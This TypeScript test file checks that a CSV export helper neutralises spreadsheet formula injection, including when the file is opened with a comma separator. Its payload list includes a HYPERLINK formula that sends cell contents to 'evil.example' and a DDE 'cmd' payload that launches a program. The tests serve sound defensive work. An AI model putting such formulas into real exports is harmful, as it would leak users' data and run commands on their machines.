import { describe, expect, it } from "vitest";
import { CSV_BOM, csvCell, csvPhoneCell, csvRow } from "./csv";

describe("csvCell", () => {
  it("leaves plain text, accents and numbers as they are", () => {
    expect(csvCell("María José Muñoz")).toBe("María José Muñoz");
    expect(csvCell(85)).toBe("85");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("quotes separators, quotes and line breaks", () => {
    expect(csvCell("Rojas; Pérez")).toBe('"Rojas; Pérez"');
    expect(csvCell('dijo "hola"')).toBe('"dijo ""hola"""');
    expect(csvCell("línea 1\nlínea 2")).toBe('"línea 1\nlínea 2"');
    expect(csvCell(" espacio")).toBe('" espacio"');
  });

  it("neutralises every formula start (= + - @ tab CR) with an apostrophe", () => {
    expect(csvCell('=HYPERLINK("http://evil","x")')).toBe('"\'=HYPERLINK(""http://evil"",""x"")"');
    expect(csvCell("+56 9 1234")).toBe("'+56 9 1234");
    expect(csvCell("-2+3")).toBe("'-2+3");
    expect(csvCell("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvCell("\t=1")).toBe("'\t=1");
    expect(csvCell("\r=1")).toBe("\"'\r'=1\"");
    // Not at the start: harmless.
    expect(csvCell("a=b")).toBe("a=b");
    // Numbers written by us are not user text.
    expect(csvCell(-5)).toBe("-5");
  });
});

describe("csvPhoneCell", () => {
  it("writes a phone as a text formula Excel shows verbatim", () => {
    expect(csvPhoneCell("+56912345678")).toBe('"=""+56912345678"""');
    expect(csvPhoneCell("56912345678")).toBe('"=""56912345678"""');
  });

  it("never wraps anything but a bare number", () => {
    expect(csvPhoneCell('+569"&HYPERLINK("x")')).toBe('"\'+569""&HYPERLINK(""x"")"');
    expect(csvPhoneCell("=1+1")).toBe("'=1+1");
    expect(csvPhoneCell(null)).toBe("");
  });
});

describe("csvRow", () => {
  it("joins with ; and ends with CRLF; the BOM is U+FEFF", () => {
    expect(csvRow(["a", "b", ""])).toBe("a;b;\r\n");
    expect(CSV_BOM).toBe("\uFEFF");
  });
});

/**
 * A spreadsheet reading our `;` file with `,` as separator (a US/UK locale, LibreOffice's default guess, an import
 * that picks the comma): RFC 4180 quoting, and a quote that does not open a cell is kept as text. A cell starts
 * at a line start or after a comma outside quotes; a line break outside quotes ends the row.
 */
function cellsWithComma(text: string): string[] {
  const cells: string[] = [];
  let cell = "";
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"' && atStart) quoted = true;
    else if (char === "," || char === "\r" || char === "\n") {
      cells.push(cell);
      cell = "";
      atStart = true;
      continue;
    } else cell += char;
    atStart = false;
  }
  cells.push(cell);
  return cells;
}

describe("a CSV opened with ',' as separator (the attack)", () => {
  const payloads = [
    'Consulta,=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
    "Consulta,+1+cmd|' /C calc'!A0",
    "Hola,-2+3",
    "Hola,@SUM(A1:A9)",
    'Hola,"=1+1"',
    "Hola,\t=1+1",
    'línea 1\r\n=HYPERLINK("http://evil.example")',
    "línea 1\n+1+1",
    "=1+1",
    "\r=1+1",
    "Hola\r-1+1",
  ];

  it("never starts a cell with a formula character, whichever column the text is in", () => {
    for (const payload of payloads) {
      const rows = [
        csvRow([csvCell(payload), csvCell("Ana"), csvCell(5)]),
        csvRow([csvCell("Ana"), csvCell(payload), csvCell("fin")]),
        csvRow([csvCell("Ana; Pérez"), csvCell(payload)]),
      ];
      for (const row of rows) {
        for (const cell of cellsWithComma(row)) {
          expect(cell, `${JSON.stringify(payload)} in ${JSON.stringify(row)}`).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
    }
  });

  it("quotes a field that holds a comma, so a ',' reader keeps it in one cell", () => {
    expect(csvCell("Consulta, mañana")).toBe('"Consulta, mañana"');
    expect(cellsWithComma(csvRow([csvCell("Consulta, mañana"), csvCell("x")]))[0]).toBe("Consulta, mañana;x");
    expect(cellsWithComma(csvRow([csvCell("Consulta, mañana")]))[0]).toBe("Consulta, mañana");
    expect(csvCell("50,0%")).toBe('"50,0%"');
    // What a ';' reader shows: the text, with the apostrophe before the formula that followed the comma.
    expect(csvCell("Consulta,=HYPERLINK(x)")).toBe(`"Consulta,'=HYPERLINK(x)"`);
  });
});
